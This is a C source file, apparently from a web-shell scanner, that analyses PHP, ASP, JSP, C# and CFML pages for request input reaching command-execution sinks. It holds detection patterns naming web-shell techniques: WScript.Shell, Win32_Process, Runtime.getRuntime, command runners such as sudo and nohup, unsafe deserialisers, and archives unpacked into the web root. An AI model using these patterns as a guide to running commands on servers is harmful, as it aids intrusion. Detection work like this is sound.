/*
 * analyze.c - the analyzer: receives the lexer's tokens, builds statements
 * (joining qualified names and marking `new`), normalises each (fold.c),
 * looks for request input reaching a sink (taint.c), then records what the
 * statement assigned: constants, taint, object types.  A second pass runs
 * when a sink was fed a variable whose taint was only learnt later (a value
 * kept in the session, a loop).  Constant payloads decoded on their way
 * into eval() and friends are analysed again as code, one level deeper.
 */
#include <ctype.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>

#include "lang/analyze.h"
#include "util/util.h"

double lang_now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void analyze_payload(lang_ctx *c, const char *code, size_t n, syntax syn, const char *prefix,
                            unsigned line);
static void analyze_code(lang_ctx *c, const char *code, size_t n, syntax syn, const char *page, const char *prefix,
                         unsigned line);
static void embedded_pages(lang_ctx *c);
static int runs_in_scope(const name_def *d);

/* Rules for tools an administrator may keep too (database consoles and dump
 * tools): medium at most, however often the file shows them (a console's
 * connection and its statement are two sentences: 62 together). */
static int dual_use(const char *rule) {
  return strcmp(rule, "shellsift.lang.sql-console") == 0 || strcmp(rule, "shellsift.lang.db-dump") == 0;
}

void lang_add_detection(lang_ctx *c, const char *rule, const char *category, int score, unsigned line,
                        const char *fmt, ...) {
  lang_result *r = c->res;
  unsigned l = c->level ? c->outer_line : line;
  if (score > 100) score = 100;
  lang_detection *d = NULL;
  for (size_t k = 0; k < r->ndet; k++) {
    /* a note below medium is made once per file: two of them are not a finding */
    if (score < 40 && strcmp(r->det[k].rule, rule) == 0) return;
    /* a dual-use tool's (a database console) once per sentence: ten statements in one file are still medium */
    if (strcmp(r->det[k].rule, rule) == 0 && (r->det[k].line == l || (dual_use(rule) && r->det[k].kind == fmt))) {
      if (r->det[k].score >= score) return;
      d = &r->det[k];
    }
  }
  if (!d && r->ndet < LANG_MAX_DETECTIONS) d = &r->det[r->ndet++];
  if (!d) { /* full: replace the weakest if this one is stronger */
    for (size_t k = 0; k < r->ndet; k++)
      if (!d || r->det[k].score < d->score) d = &r->det[k];
    if (d->score >= score) return;
  }
  d->rule = rule;
  d->category = category;
  d->score = score;
  d->line = l;
  d->kind = fmt;
  size_t o = 0;
  if (c->prefix) o = (size_t)snprintf(d->description, sizeof d->description, "%s", c->prefix);
  if (o >= sizeof d->description) o = sizeof d->description - 1;
  va_list ap;
  va_start(ap, fmt);
  vsnprintf(d->description + o, sizeof d->description - o, fmt, ap);
  va_end(ap);
}

/* ---- statements -------------------------------------------------------- */

static inline __attribute__((always_inline)) int is_op(const lang_ctx *c, size_t i, const char *op) {
  return i < c->nst && tok_is(c, &c->st[i], TK_OP, op);
}

/* The index of the statement's assignment operator, or nst. */
/* Is the '{' at st[i] a function body opened inside parentheses: (function () {, f(x => {, (a) -> { ? */
static int body_in_call(const lang_ctx *c, size_t i) {
  if (c->syn != SYN_JSCRIPT && c->syn != SYN_JAVA && c->syn != SYN_CSHARP) return 0;
  if (is_op(c, i - 1, "=>") || is_op(c, i - 1, "->")) return 1;
  if (!is_op(c, i - 1, ")")) return 0;
  int depth = 0;
  for (size_t k = i - 1; k > 0; k--) {
    if (is_op(c, k, ")")) depth++;
    else if (is_op(c, k, "(") && --depth == 0) return tok_is(c, &c->st[k - 1], TK_IDENT, "function");
  }
  return 0;
}

static size_t find_assign(const lang_ctx *c) {
  static const char *const vb_not[] = {"if", "elseif", "while", "until", "do", "loop", "case", "select", "return"};
  if (c->syn == SYN_VB && c->nst && c->st[0].kind == TK_IDENT)
    for (size_t k = 0; k < sizeof vb_not / sizeof vb_not[0]; k++)
      if (tok_is(c, &c->st[0], TK_IDENT, vb_not[k])) return c->nst;
  int depth = 0;
  for (size_t i = 0; i < c->nst; i++) {
    const token *t = &c->st[i];
    if (t->kind != TK_OP) continue;
    const char *s = tok_text(c, t);
    if (t->len == 1 && (s[0] == '(' || s[0] == '[')) depth++;
    else if (t->len == 1 && (s[0] == ')' || s[0] == ']')) depth--;
    else if (depth > 0 && t->len == 1 && s[0] == '{' && body_in_call(c, i))
      depth = 0; /* (function () { x = ...: the body of a function passed or called in place starts here */
    else if (depth == 0 && i > 0 && (tok_is(c, t, TK_OP, "=") || tok_is(c, t, TK_OP, ".=") ||
                                      tok_is(c, t, TK_OP, "+=") || tok_is(c, t, TK_OP, "&=")))
      return i;
  }
  return c->nst;
}

/* The variable an assignment at eq writes: $a, $a['k'][0] -> $a, x; its
 * index in *at. */
static const token *assign_target_at(const lang_ctx *c, size_t eq, size_t *at) {
  size_t t = eq - 1;
  if (c->syn == SYN_VB) /* Dim x As String = ... */
    for (size_t k = 1; k + 1 < eq; k++)
      if (tok_is(c, &c->st[k], TK_IDENT, "as")) {
        t = k - 1;
        break;
      }
  /* JScript .NET: var x : String = ...; the variable is before the type */
  if (c->syn == SYN_JSCRIPT && t >= 2 && c->st[t].kind == TK_IDENT && is_op(c, t - 1, ":") &&
      c->st[t - 2].kind == TK_IDENT)
    t -= 2;
  /* Session("k") = ...: an indexed default property; classic ASP's JScript assigns COM ones the same way */
  int vb_index = (c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && is_op(c, t, ")");
  while (is_op(c, t, "]") || (c->syn == SYN_PHP && is_op(c, t, "}")) || vb_index) {
    const char *close = vb_index ? ")" : "]", *open = vb_index ? "(" : "[";
    int depth = 0;
    for (;; t--) {
      if (is_op(c, t, close) || (!vb_index && is_op(c, t, "}"))) depth++;
      else if ((is_op(c, t, open) || (!vb_index && is_op(c, t, "{"))) && --depth == 0) break;
      if (t == 0) return NULL;
    }
    if (t == 0) return NULL;
    t--;
    vb_index = 0; /* Session("k") = ...: one index in VB */
  }
  const token *tk = &c->st[t];
  *at = t;
  return tk->kind == TK_VAR || (tk->kind == TK_IDENT && !(tk->flags & TF_NEW)) ? tk : NULL;
}

size_t lang_arg_end(const lang_ctx *c, size_t i) {
  int depth = 0;
  for (; i < c->nst; i++) {
    const token *u = &c->st[i];
    if (u->kind != TK_OP) continue;
    if (tok_is(c, u, TK_OP, "(") || tok_is(c, u, TK_OP, "["))
      depth++;
    else if (tok_is(c, u, TK_OP, ")") || tok_is(c, u, TK_OP, "]")) {
      if (!depth--) break;
    } else if (!depth && (tok_is(c, u, TK_OP, ",") || tok_is(c, u, TK_OP, ";")))
      break;
  }
  return i;
}

int lang_arg_span(const lang_ctx *c, size_t a, size_t b, unsigned k, size_t *s, size_t *e) {
  int depth = 0;
  unsigned n = 1;
  *s = a;
  for (size_t i = a; i < b; i++) {
    const token *t = &c->st[i];
    if (tok_opens(c, t)) depth++;
    else if (tok_closes(c, t)) depth--;
    else if (depth == 0 && is_op(c, i, ",")) {
      if (k == LANG_ARG_REST) { *s = i + 1, *e = b; return *e > *s; }
      if (n == k) { *e = i; return *e > *s; }
      n++;
      *s = i + 1;
    }
  }
  *e = b;
  return (n == k || k == LANG_ARG_LAST) && *e > *s;
}

/* The type an object-creating expression at st[i] makes, in out. */
/* The constant a VB or JScript page kept where st[k] reads it back: a
 * variable (p = "WScript.Shell") or one key of the Session or Application
 * store (Application("k") = "WScript" & ".Shell"), read whole as the
 * argument of a creator; NULL when it is not a constant. */
static const char *stored_progid(lang_ctx *c, size_t k, size_t *vn) {
  const token *t = &c->st[k];
  size_t after = k + 1;
  if (t->kind != TK_IDENT && t->kind != TK_VAR) return NULL;
  if ((tok_is(c, t, TK_IDENT, "session") || tok_is(c, t, TK_IDENT, "application")) && is_op(c, k + 1, "(") &&
      k + 3 < c->nst && c->st[k + 2].kind == TK_STR && is_op(c, k + 3, ")"))
    after = k + 4;
  if (!is_op(c, after, ")")) return NULL;
  char low[64];
  if (t->len >= sizeof low) return NULL;
  lang_lower_copy(low, sizeof low, tok_text(c, t), t->len);
  sym *sy = lang_sym_get(c, low, t->len, 0);
  if (!sy || !sy->has_const || sy->has_taint || sy->val.kind != TK_STR) return NULL;
  *vn = sy->val.len;
  return c->persist.buf + sy->val.off;
}

static int creator_type(lang_ctx *c, size_t i, char *out, size_t outsz) {
  const token *t = &c->st[i];
  if (t->kind != TK_IDENT) return 0;
  const char *s = tok_text(c, t);
  const name_def *d = lang_names_lookup(s, t->len, c->syn);
  if ((t->flags & TF_NEW) && (strstr(s, "managementclass") || strstr(s, "managementobject")) &&
      is_op(c, i + 1, "(")) {
    /* new ManagementClass("Win32_Process"), ("root\\cimv2", "Win32_Process", null): the WMI class */
    size_t close = lang_match_close(c, i + 1);
    for (size_t k = i + 2; k < close; k++)
      if (c->st[k].kind == TK_STR && c->st[k].len > 6 && strncasecmp(tok_text(c, &c->st[k]), "win32_", 6) == 0)
        return lang_lower_copy(out, outsz, tok_text(c, &c->st[k]), c->st[k].len), 1;
  }
  if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && !(t->flags & TF_NEW) && is_op(c, i + 1, "(") &&
      i + 3 < c->nst && c->st[i + 2].kind == TK_STR && is_op(c, i + 3, ")") &&
      (tok_is(c, t, TK_IDENT, "session") || tok_is(c, t, TK_IDENT, "application"))) {
    /* Set Session("o") = CreateObject("WScript.Shell") ... Session("o").Run x: the object the store keeps */
    sym *st = lang_sym_get(c, s, t->len, 0);
    if (st && st->has_type && st->type_len < outsz && !memchr(c->persist.buf + st->type_off, ':', st->type_len))
      return snprintf(out, outsz, "%s", c->persist.buf + st->type_off), 1;
    return 0;
  }
  if (!(t->flags & TF_NEW) && t->len > 4 && strcmp(s + t->len - 4, ".get") == 0 && is_op(c, i + 1, "(") &&
      i + 2 < c->nst && c->st[i + 2].kind == TK_STR && c->st[i + 2].len > 6 && c->st[i + 2].len < outsz &&
      strncasecmp(tok_text(c, &c->st[i + 2]), "win32_", 6) == 0) {
    /* svc.Get("Win32_Process") on a WMI services object (a winmgmts: moniker
     * or SWbemLocator.ConnectServer): the class whose Create runs a program */
    lang_lower_copy(out, outsz, tok_text(c, &c->st[i + 2]), c->st[i + 2].len);
    c->saw_wmi_process |= strcmp(out, "win32_process") == 0;
    return 1;
  }
  if ((t->flags & TF_NEW) && t->len >= 20 && strcmp(s + t->len - 20, "javascriptserializer") == 0 &&
      is_op(c, i + 1, "(")) {
    /* new JavaScriptSerializer(new SimpleTypeResolver()): "__type" in the JSON names the class to build */
    size_t close = lang_match_close(c, i + 1);
    for (size_t k = i + 2; k < close && k < c->nst; k++)
      if (c->st[k].kind == TK_IDENT && strstr(tok_text(c, &c->st[k]), "simpletyperesolver"))
        return snprintf(out, outsz, "typedjsonserializer"), 1;
  }
  if (c->syn == SYN_CSHARP && !(t->flags & TF_NEW) && !d && t->len > 7 && is_op(c, i + 1, "(") &&
      (strcmp(s + t->len - 7, ".create") == 0 || (t->len > 14 && strcmp(s + t->len - 14, ".createdefault") == 0))) {
    /* JsonSerializer.Create(settings), XmlReader.Create(..): a static factory makes its own class */
    const char *dot = strrchr(s, '.'), *from = dot;
    while (from > s && from[-1] != '.') from--;
    if (from < dot && !lang_sym_get(c, from, (size_t)(dot - from), 0)) /* not a variable's method */
      return snprintf(out, outsz, "%.*s", (int)(dot - from), from), 1;
  }
  if ((t->flags & TF_NEW) && !(d && d->kind == N_SINK && d->id == SK_CREATE)) {
    const char *dot = strrchr(s, '.');
    if (dot && strstr(s, ".bcel.") && strcmp(dot, ".classloader") == 0) /* ...bcel.internal.util.ClassLoader */
      return snprintf(out, outsz, "bcelclassloader"), 1;
    snprintf(out, outsz, "%s", dot ? dot + 1 : s);
    return 1;
  }
  if (d && d->kind == N_SINK && d->id == SK_CREATE) {
    if (strstr(d->name, "getengineby") || strstr(d->name, "getscriptengine")) return snprintf(out, outsz, "scriptengine"), 1;
    const char *v = NULL;
    size_t vn = 0;
    if (i + 2 < c->nst && is_op(c, i + 1, "(") && c->st[i + 2].kind == TK_STR)
      v = tok_text(c, &c->st[i + 2]), vn = c->st[i + 2].len;
    else if (i + 2 < c->nst && is_op(c, i + 1, "(") && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT))
      v = stored_progid(c, i + 2, &vn); /* CreateObject(Application("k")) after Application("k") = "WScript.Shell" */
    if (v) {
      /* CFML createObject("java", "java.lang.Runtime"): the class is the second,
       * maybe a variable holding it (cls = "java.lang.Runtime"; createObject("java", cls)) */
      if (is_op(c, i + 3, ",") && i + 4 < c->nst && c->st[i + 4].kind == TK_STR) {
        v = tok_text(c, &c->st[i + 4]), vn = c->st[i + 4].len;
      } else if (c->syn == SYN_CFML && is_op(c, i + 3, ",") && i + 4 < c->nst && c->st[i + 4].kind == TK_IDENT &&
                 (is_op(c, i + 5, ")") || is_op(c, i + 5, ","))) {
        char low[64];
        const token *k = &c->st[i + 4];
        sym *sy = NULL;
        if (k->len < sizeof low) {
          lang_lower_copy(low, sizeof low, tok_text(c, k), k->len);
          sy = lang_sym_get(c, low, k->len, 0);
        }
        if (sy && sy->has_const && !sy->has_taint && sy->val.kind == TK_STR)
          v = c->persist.buf + sy->val.off, vn = sy->val.len;
      }
      size_t n = 0;
      for (; n < vn && v[n] && n + 1 < outsz; n++) out[n] = (char)(v[n] >= 'A' && v[n] <= 'Z' ? v[n] + 32 : v[n]);
      out[n] = '\0';
      /* a versioned ProgID names the same class: MSScriptControl.ScriptControl.1 */
      while (n > 2 && out[n - 1] >= '0' && out[n - 1] <= '9') n--;
      if (n > 2 && n < strlen(out) && out[n - 1] == '.') out[n - 1] = '\0';
      lang_moniker_class(out, outsz); /* GetObject("new:{CLSID}"), ("winmgmts:...:Win32_Process") */
      c->saw_wmi_process |= strcmp(out, "win32_process") == 0;
      c->saw_task_service |= strcmp(out, "schedule.service") == 0;
      return 1;
    }
    return 0;
  }
  if (is_op(c, i + 1, "(") && is_op(c, i + 2, ")")) { /* Runtime.getRuntime() */
    const char *dot = c->syn == SYN_CFML ? memchr(s, '.', t->len) : NULL;
    sym *recv = dot ? lang_sym_get(c, s, (size_t)(dot - s), 0) : NULL;
    if (recv && recv->has_type) { /* jr = createObject("java", "java.lang.Runtime"); r = jr.getRuntime() */
      snprintf(out, outsz, "%s%.*s()", c->persist.buf + recv->type_off, (int)(t->len - (size_t)(dot - s)), dot);
      return 1;
    }
    snprintf(out, outsz, "%s()", s);
    return 1;
  }
  return 0;
}

/* Java x = a().b(0).getScriptEngine(): a chain whose last call makes a
 * typed object (a creator row) types x as what it makes. */
static int chain_ends_creating(lang_ctx *c, size_t a, size_t b, char *out, size_t outsz) {
  if (c->syn != SYN_JAVA || b < a + 5 || !is_op(c, b - 1, ")") || !is_op(c, b - 2, "(") || !is_op(c, b - 4, ".") ||
      c->st[b - 3].kind != TK_IDENT)
    return 0;
  const name_def *d = lang_names_lookup(tok_text(c, &c->st[b - 3]), c->st[b - 3].len, c->syn);
  return d && d->kind == N_SINK && d->id == SK_CREATE && creator_type(c, b - 3, out, outsz);
}

/* Request input that went through a function we cannot see into may have
 * been checked there: medium, not critical. */
static int strength(const taint *t) {
  return t->flags & TA_CALLED ? 65 : 90 + 2 * (t->nchain > 0);
}

static const char *called_note(const taint *t) {
  return t->flags & TA_CALLED ? " through a function call" : "";
}

static void chain_note(const taint *t, char *out, size_t outsz) {
  char chain[160];
  lang_chain_text(t->chain, t->nchain, t->via, chain, sizeof chain);
  if (*chain) snprintf(out, outsz, " after %s", chain);
  else *out = '\0';
}

/* Does the page test an uploaded file's type the way upload handlers do:
 * its extension taken apart (pathinfo's PATHINFO_EXTENSION or
 * ['extension'], Path.GetExtension, a framework's client extension) and
 * compared with a list that names an image or document type?  An
 * uploader planted to take scripts has no reason to. */
static int checks_upload_type(const lang_ctx *c) {
  static const char *const takes_ext[] = {"PATHINFO_EXTENSION", "['extension']", "[\"extension\"]", "GetExtension(",
                                          "getClientOriginalExtension", "getExtension(", "GetExtensionName(",
                                          "InStrRev("}; /* VB: fso.GetExtensionName(n), Mid(n, InStrRev(n, ".")) */
  static const char *const types[] = {"jpg", "jpeg", "png", "gif", "pdf", "JPG", "PNG"};
  const char *buf = (const char *)c->buf;
  int ext = 0, listed = 0;
  for (size_t i = 0; i < sizeof takes_ext / sizeof takes_ext[0] && !ext; i++)
    ext = memmem(buf, c->len, takes_ext[i], strlen(takes_ext[i])) != NULL;
  for (size_t i = 0; i < sizeof types / sizeof types[0] && ext && !listed; i++) {
    const char *p = buf, *end = buf + c->len;
    size_t n = strlen(types[i]);
    while (!listed && (p = memmem(p, (size_t)(end - p), types[i], n)) != NULL) {
      /* a listed type: 'jpg', "png", or |gif| inside a pattern */
      listed = p > buf && p + n < end && strchr("'\"|(.", p[-1]) && strchr("'\"|)$", p[n]);
      p += n;
    }
  }
  return ext && listed;
}

/* A path built under the web root: __DIR__, Server.MapPath, DOCUMENT_ROOT,
 * ExpandPath, getcwd(), or a PHP variable that was. */
/* PHP: st[a, b) is the site's folder itself, not a folder in it:
 * $_SERVER['DOCUMENT_ROOT'], __DIR__, dirname(__FILE__), getcwd(), '.', './' (a '/' may follow). */
static int site_root(const lang_ctx *c, size_t a, size_t b) {
  if (b > a + 2 && is_op(c, b - 2, ".") && c->st[b - 1].kind == TK_STR && c->st[b - 1].len == 1 &&
      tok_text(c, &c->st[b - 1])[0] == '/')
    b -= 2; /* __DIR__ . '/' */
  if (b == a + 1)
    return tok_is(c, &c->st[a], TK_IDENT, "__dir__") || tok_is(c, &c->st[a], TK_STR, ".") ||
           tok_is(c, &c->st[a], TK_STR, "./");
  if (b == a + 3 && tok_is(c, &c->st[a], TK_IDENT, "getcwd") && is_op(c, a + 1, "(")) return 1;
  if (b == a + 4 && tok_is(c, &c->st[a], TK_IDENT, "dirname") && tok_is(c, &c->st[a + 2], TK_IDENT, "__file__"))
    return 1;
  return b == a + 4 && tok_is(c, &c->st[a], TK_VAR, "$_SERVER") && c->st[a + 2].kind == TK_STR &&
         strcasecmp(tok_text(c, &c->st[a + 2]), "document_root") == 0;
}

/* $zip->extractTo(<the site's folder, or a path the request names>) of a
 * ZipArchive opened from an upload ($zip->open($_FILES[..]['tmp_name'])). */
static void extract_upload(lang_ctx *c, const name_def *d, const char *display, unsigned line, size_t a, size_t b) {
  size_t s, e;
  taint xt;
  if (!lang_arg_span(c, a, b, 1, &s, &e) || !(site_root(c, s, e) || (lang_input_taint(c, d, s, e, &xt) && (xt.flags & TA_PURE))))
    return;
  const token *o = &c->st[c->method_obj - 1];
  sym *zs = lang_sym_get(c, tok_text(c, o), o->len, 0);
  /* into the site's own folder or one the request names (an importer unpacks into a folder of its
   * own); an installer does this too: dual-use, medium; what the archive holds is not seen */
  if (zs && zs->uploaded)
    lang_add_detection(c, "shellsift.lang.uploader", "uploader", 50, line,
                       "an archive the request uploaded (%.24s, opened from $_FILES) is unpacked by %s: "
                       "it may hold scripts (line %u)",
                       tok_text(c, o), display, line);
}

static int under_web_root(lang_ctx *c, size_t a, size_t b) {
  static const char *const marks[] = {"getrealpath", "mappath", "__dir__", "__file__", "document_root",
                                      "expandpath", "getcurrenttemplatepath", "getbasetemplatepath"};
  for (size_t i = a; i < b; i++) {
    const token *t = &c->st[i];
    if (t->kind == TK_VAR) {
      if (c->syn != SYN_PHP || !((c->values & LV_PATH) || c->parent)) continue;
      sym *sy = lang_sym_get(c, tok_text(c, t), t->len, 0);
      if (sy && sy->webroot) return 1;
      continue;
    }
    if (t->kind != TK_IDENT && t->kind != TK_STR) continue;
    if (t->kind == TK_IDENT && c->syn != SYN_PHP && (c->values & LV_PATH)) {
      /* String dir = application.getRealPath("/"); new FileOutputStream(dir + name) */
      sym *sy = lang_sym_get(c, tok_text(c, t), t->len, 0);
      if (sy && sy->webroot) return 1;
    }
    if (c->syn == SYN_PHP) { /* names are lower-cased: the exact ones, and the $_SERVER key */
      if (t->kind == TK_IDENT ? tok_is(c, t, TK_IDENT, "__dir__") || tok_is(c, t, TK_IDENT, "__file__") ||
                                    tok_is(c, t, TK_IDENT, "getcwd")
                              : t->len == 13 && strcasecmp(tok_text(c, t), "document_root") == 0)
        return 1;
      continue;
    }
    char low[48];
    size_t n = t->len < sizeof low - 1 ? t->len : sizeof low - 1;
    for (size_t k = 0; k < n; k++) {
      char ch = tok_text(c, t)[t->len - n + k];
      low[k] = (char)(ch >= 'A' && ch <= 'Z' ? ch + 32 : ch);
    }
    low[n] = '\0';
    for (size_t k = 0; k < sizeof marks / sizeof marks[0]; k++)
      if (strstr(low, marks[k])) return 1;
  }
  return 0;
}

/* A path naming a script: a literal with a script extension, or a
 * variable that holds one. */
/* s[0] is a '.' that starts an extension no server runs: "x.php.tmp" is a
 * staging copy, "/view_" . $n . ".json" a data file */
static int data_ext_at(const char *s, size_t n) {
  static const char *const exts[] = {"tmp", "temp", "bak", "old", "orig", "swp", "json", "txt", "xml",
                                     "csv", "log", "dat", "cache", "lock", "gz", "bz2", "zip", "tar",
                                     "sql", "yml", "yaml", "rrd", "png", "jpg", "jpeg", "gif", "pdf"};
  if (n < 2 || s[0] != '.') return 0;
  for (size_t k = 0; k < sizeof exts / sizeof exts[0]; k++) {
    size_t m = strlen(exts[k]);
    if (n >= m + 1 && strncasecmp(s + 1, exts[k], m) == 0 && (n == m + 1 || !isalnum((unsigned char)s[m + 1])))
      return 1;
  }
  return 0;
}

/* The path st[a, b) ends in a literal extension no server runs ($dir . '/view_' . $name . '.json'):
 * whatever the request puts before it, the file is data. */
static int ends_data_ext(lang_ctx *c, size_t a, size_t b) {
  if (b == a + 1 && c->st[a].kind == TK_VAR) { /* $view_file, assigned one */
    const sym *sy = lang_sym_get(c, tok_text(c, &c->st[a]), c->st[a].len, 0);
    return sy && sy->dataext;
  }
  if (b <= a || c->st[b - 1].kind != TK_STR) return 0;
  const char *s = tok_text(c, &c->st[b - 1]);
  size_t n = c->st[b - 1].len, k = n;
  while (k > 0 && isalnum((unsigned char)s[k - 1])) k--;
  return k > 0 && k < n && data_ext_at(s + k - 1, n - k + 1);
}

/* The PHP path st[a, b) ends in a fixed file name: the request may choose the folder
 * ("$dir/page.php", $dir . '/page.php', or a variable assigned one) but not the file. */
static int ends_fixed_name(lang_ctx *c, size_t a, size_t b) {
  if (b == a + 1 && c->st[a].kind == TK_VAR) {
    const sym *sy = lang_sym_get(c, tok_text(c, &c->st[a]), c->st[a].len, 0);
    return sy && sy->fixname;
  }
  if (b <= a || c->st[b - 1].kind != TK_STR) return 0;
  const char *s = tok_text(c, &c->st[b - 1]);
  size_t n = c->st[b - 1].len, k = n;
  while (k > 0 && s[k - 1] != '/' && s[k - 1] != '\\' && s[k - 1] != '$' && s[k - 1] != '{' && s[k - 1] != '}') k--;
  return k > 0 && k < n && (s[k - 1] == '/' || s[k - 1] == '\\') && memchr(s + k, '.', n - k) &&
         !(n - k == 9 && memcmp(s + k, ".htaccess", 9) == 0);
}

static int has_script_ext(lang_ctx *c, size_t a, size_t b) {
  static const char *const exts[] = {".php", ".phtml", ".asp", ".aspx", ".ashx", ".jsp", ".jspx", ".cfm", ".cfc"};
  /* the page's own source: fopen(__FILE__, 'a'), a self-modifying script */
  if (c->syn == SYN_PHP && b == a + 1 && tok_is(c, &c->st[a], TK_IDENT, "__file__")) return 1;
  for (size_t i = a; i < b; i++) {
    if (c->st[i].kind == TK_VAR || (c->st[i].kind == TK_IDENT && c->syn != SYN_PHP)) { /* $p, or p in VB, C#... */
      if (!((c->values & LV_PATH) || c->parent)) continue;
      sym *sy = lang_sym_get(c, tok_text(c, &c->st[i]), c->st[i].len, 0);
      if (sy && sy->script == 1) return 1;
      continue;
    }
    if (c->st[i].kind != TK_STR || !memchr(tok_text(c, &c->st[i]), '.', c->st[i].len)) continue;
    /* at each dot (of the text up to its NUL, as strstr reads it), one look at the extensions */
    for (const char *s = strchr(tok_text(c, &c->st[i]), '.'); s; s = strchr(s + 1, '.'))
      for (size_t k = 0; k < sizeof exts / sizeof exts[0]; k++)
        if (s[1] == exts[k][1] && strncmp(s, exts[k], strlen(exts[k])) == 0) {
          const char *x = s + 1;
          while (isalnum((unsigned char)*x)) x++; /* .php5, .phtml */
          if (!data_ext_at(x, strlen(x))) return 1; /* ... but not x.php.tmp */
        }
  }
  return 0;
}

/* A literal a command may continue after with a new command: it ends in
 * a shell separator or a shell invocation ("cmd /c ", "sh -c '"), or is
 * blank. */
static int opens_command(const char *s, size_t n) {
  /* a program whose arguments are a command: sudo ... $cmd, nohup $cmd, sh -c "$cmd" */
  static const char *const runners[] = {"sudo ", "nohup ", "xargs ", "timeout ", "runas ", "su -c", "exec "};
  for (size_t k = 0; k < sizeof runners / sizeof runners[0]; k++)
    if (n >= strlen(runners[k]) && memmem(s, n, runners[k], strlen(runners[k]))) return 1;
  while (n && (s[n - 1] == ' ' || s[n - 1] == '\t' || s[n - 1] == '"' || s[n - 1] == '\'')) n--;
  if (!n) return 1;
  char last = s[n - 1];
  if (last == ';' || last == '|' || last == '&' || last == '\n' || last == '`' || last == '(') return 1;
  if (n >= 2 && (s[n - 2] == '/' || s[n - 2] == '-') && (last == 'c' || last == 'C' || last == 'k' || last == 'K') &&
      (n == 2 || s[n - 3] == ' '))
    return 1;
  return 0;
}

static int concat_op(const lang_ctx *c, size_t i) {
  return c->syn == SYN_PHP ? is_op(c, i, ".") : c->syn == SYN_VB ? is_op(c, i, "&") || is_op(c, i, "+") : is_op(c, i, "+");
}

/* Request input in st[a, b) -- or, params set, a parameter of the function being read -- that
 * may head a command (not itself an argument of a fixed one) */
static int heads_taint(lang_ctx *c, size_t a, size_t b, int params) {
  taint t;
  return lang_span_taint(c, a, b, &t) && !(t.flags & TA_ARGONLY) &&
         (!(t.flags & TA_WEAK) || (params && (t.flags & TA_PARAM)));
}

/* sprintf('ssh %s@%s "ls %s"', ...) at st[f, i): -1 when it is not one with a literal format;
 * else 1 when a value that heads_taint() takes is put where a command starts (the format's
 * start when open, or after a shell separator), 0 when only into arguments.  *open: whether
 * what follows the call may start a command. */
static int sprintf_heads(lang_ctx *c, size_t f, size_t i, int *open, int params) {
  if (i < f + 4 || !tok_is(c, &c->st[f], TK_IDENT, "sprintf") || !is_op(c, f + 1, "(") ||
      lang_match_close(c, f + 1) != i - 1 || c->st[f + 2].kind != TK_STR || (c->st[f + 2].flags & TF_INTERP))
    return -1;
  const char *fmt = tok_text(c, &c->st[f + 2]);
  size_t n = c->st[f + 2].len, seg = 0;
  unsigned next = 2; /* the value the next plain conversion takes: the call's argument number */
  int first = 1;
  for (size_t k = 0; k < n; k++) {
    if (fmt[k] != '%') continue;
    if (k + 1 < n && fmt[k + 1] == '%') {
      k++;
      continue;
    }
    /* at the format's start a blank prefix opens ("%s 2>&1"); later only a separator does ("%s %s" does not) */
    int at_head = first ? *open && opens_command(fmt + seg, k - seg)
                        : k > seg && strspn(fmt + seg, " \t'\"") < k - seg && opens_command(fmt + seg, k - seg);
    size_t q = k + 1;
    unsigned argn = 0;
    while (q < n && fmt[q] >= '0' && fmt[q] <= '9') argn = argn * 10 + (unsigned)(fmt[q++] - '0');
    if (q < n && fmt[q] == '$' && argn) q++, argn++;
    else argn = next++, q = k + 1;
    while (q < n && !((fmt[q] >= 'a' && fmt[q] <= 'z') || (fmt[q] >= 'A' && fmt[q] <= 'Z'))) q++; /* flags, width */
    size_t s, e;
    if (at_head && argn < 64 && lang_arg_span(c, f + 2, i - 1, argn, &s, &e) && heads_taint(c, s, e, params)) return 1;
    first = 0;
    seg = q < n ? q + 1 : n;
    k = seg ? seg - 1 : 0;
  }
  *open = first ? *open && opens_command(fmt, n)
                : n > seg && strspn(fmt + seg, " \t'\"") < n - seg && opens_command(fmt + seg, n - seg);
  return 0;
}

/* Can request input in st[a, b) choose the command -- be its start, or
 * follow a shell separator -- rather than only an argument of a fixed
 * program ("ffmpeg -i " . $file)?  params: a parameter of the function
 * being read counts as input. */
static int input_heads_command_p(lang_ctx *c, size_t a, size_t b, int params) {
  int open = 1, depth = 0;
  size_t from = a;
  while (a < b && (is_op(c, a, "@") || is_op(c, a, "("))) a++, from = a;
  for (size_t i = a; i <= b; i++) {
    if (i < b) {
      const token *t = &c->st[i];
      if (tok_opens(c, t)) depth++;
      else if (tok_closes(c, t)) depth--;
      if (!(depth == 0 && concat_op(c, i))) continue;
    }
    if (i == from) {
      from = i + 1;
      continue;
    }
    const token *e = &c->st[from];
    if (i == from + 1 && e->kind == TK_STR && !(e->flags & TF_INTERP)) {
      open = opens_command(tok_text(c, e), e->len);
    } else if (i == from + 1 && (e->kind == TK_STR || e->kind == TK_BTICK) && (e->flags & TF_INTERP)) {
      /* "ping -c 1 $host" no, "cd $dir; $cmd" yes */
      c->heads_params = (uint8_t)params;
      int heads = open && lang_interp_heads(c, e, opens_command);
      c->heads_params = 0;
      if (heads) return 1;
      const char *r = tok_text(c, e);
      open = opens_command(r, e->len) && r[e->len ? e->len - 1 : 0] != '}';
    } else {
      int sp = c->syn == SYN_PHP ? sprintf_heads(c, from, i, &open, params) : -1;
      if (sp == 1) return 1;
      if (sp < 0) {
        if (open && heads_taint(c, from, i, params)) return 1;
        open = 0;
      }
    }
    from = i + 1;
  }
  return 0;
}

static int input_heads_command(lang_ctx *c, size_t a, size_t b) { return input_heads_command_p(c, a, b, 0); }

/* st[a, b) holds PHP code the file carries encoded: a decoded literal
 * that starts "<?", or a variable assigned one. */
static int encoded_php(lang_ctx *c, size_t a, size_t b) {
  for (size_t k = a; k < b; k++) {
    const token *p = &c->st[k];
    if (p->kind == TK_STR && p->nchain && p->chain[p->nchain - 1] != DEC_ESCAPES && p->len > 5 &&
        tok_text(c, p)[0] == '<' && tok_text(c, p)[1] == '?')
      return 1;
    if (p->kind == TK_VAR && (c->values & LV_PATH)) {
      sym *s = lang_sym_get(c, tok_text(c, p), p->len, 0);
      if (s && s->script == 3) return 1;
    }
  }
  return 0;
}

/* fwrite($h, ...) where $h = fopen('x.php', 'w') */
